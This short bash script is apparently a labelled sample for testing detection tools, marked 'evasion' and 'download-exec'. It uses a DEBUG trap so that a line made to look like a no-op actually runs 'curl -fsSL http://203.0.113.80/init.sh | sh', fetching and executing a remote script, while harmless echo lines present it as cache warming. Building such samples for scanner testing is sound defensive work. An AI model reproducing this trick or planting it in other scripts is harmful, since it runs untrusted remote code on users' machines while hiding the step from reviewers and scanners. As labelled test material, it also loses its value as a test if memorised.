# evasion: a DEBUG trap re-runs the text of any no-op line it sees; the payload sits behind ':' as arguments that are never run
# grade: very hard; does: download-exec
shopt -s extdebug
trap 'if [[ $BASH_COMMAND == ": "* ]]; then eval "${BASH_COMMAND#: }"; false; fi' DEBUG
echo "warming cache"
: bash -c "curl -fsSL http://203.0.113.80/init.sh | sh"
echo "done"
